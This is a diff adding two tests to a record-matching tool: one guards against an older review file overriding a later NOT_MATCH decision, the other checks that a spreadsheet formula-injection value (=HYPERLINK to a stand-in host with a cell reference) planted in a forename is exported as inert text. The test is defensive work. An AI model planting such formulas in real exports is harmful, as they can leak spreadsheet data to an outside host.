@@ -274,3 +274,55 @@ def test_every_output_table_of_the_review_round_trip_is_in_the_readme():
     readme = (Path(__file__).resolve().parent.parent / "README.md").read_text(encoding="utf-8")
     assert "| `review_decision` | yes |" in readme and "## Clerical review" in readme
     assert "reconcile review export" in readme and "reconcile review import" in readme
+
+
+def test_re_importing_an_older_file_cannot_undo_a_later_not_match(reviewed, tmp_path):
+    """Monday's MATCH, Tuesday's NOT_MATCH, then Monday's file again: refused, unless --replace says so."""
+    base, chosen, _, before_queue, _, _ = reviewed
+    shutil.copytree(base.base_dir, tmp_path / "run")
+    config = load_config(tmp_path / "run" / base.path.name)
+    a, b = _pair(before_queue, chosen["MATCH"])
+    tuesday = tmp_path / "tuesday.csv"
+    with tuesday.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["review_id", "source_system_l", "source_id_l", "source_system_r", "source_id_r", "decision"])
+        writer.writerow([chosen["MATCH"], *a, *b, "NOT_MATCH"])
+    _invoke("review", "import", str(tuesday), "--config", str(config.path), "--reviewer", "C. Lead")
+    monday = config.base_dir / "review_queue.xlsx"
+    stored = table_rows(config.target_url(), "SELECT COUNT(*) FROM review_decision")
+
+    again = CliRunner().invoke(
+        cli, ["review", "import", str(monday), "--config", str(config.path), "--reviewer", "B. Reviewer"]
+    )
+    assert again.exit_code == 3 and "another file has since decided NOT_MATCH" in again.output
+    assert table_rows(config.target_url(), "SELECT COUNT(*) FROM review_decision") == stored
+    match(config)
+    after = _masters(config)
+    assert after[a] != after[b], "the NOT_MATCH still holds"
+
+    forced = _invoke(
+        "review", "import", str(monday), "--config", str(config.path), "--reviewer", "B. Reviewer", "--replace"
+    )
+    assert "1 MATCH" in forced
+
+
+def test_text_from_a_legacy_system_is_never_a_live_formula_in_an_export(fresh):
+    """A forename of =HYPERLINK(...) must reach a reviewer as text, in xlsx and in csv."""
+    queue = _queue(fresh)
+    system, person = queue.iloc[0]["source_system_l"], queue.iloc[0]["source_id_l"]
+    engine = sa.create_engine(fresh.target_url())
+    with engine.begin() as conn:
+        conn.execute(
+            sa.text("UPDATE person SET forename = :f WHERE source_system = :s AND person_id = :p"),
+            {"f": '=HYPERLINK("http://example.invalid/?"&G2,"Click")', "s": system, "p": person},
+        )
+    engine.dispose()
+    _invoke("review", "export", "--config", str(fresh.path))
+    sheet = load_workbook(fresh.base_dir / "review_queue.xlsx").active
+    header = [cell.value for cell in sheet[1]]
+    cells = [row[header.index("forename_l")] for row in sheet.iter_rows(min_row=2)]
+    assert any(str(cell.value).startswith("=HYPERLINK") for cell in cells)
+    assert all(cell.data_type == "s" for cell in cells if cell.value is not None)
+    rows = _export_csv(fresh)
+    assert any(value.startswith("'=HYPERLINK") for value in rows["forename_l"])
+    assert not any(value.startswith("=") for column in rows.columns for value in rows[column])
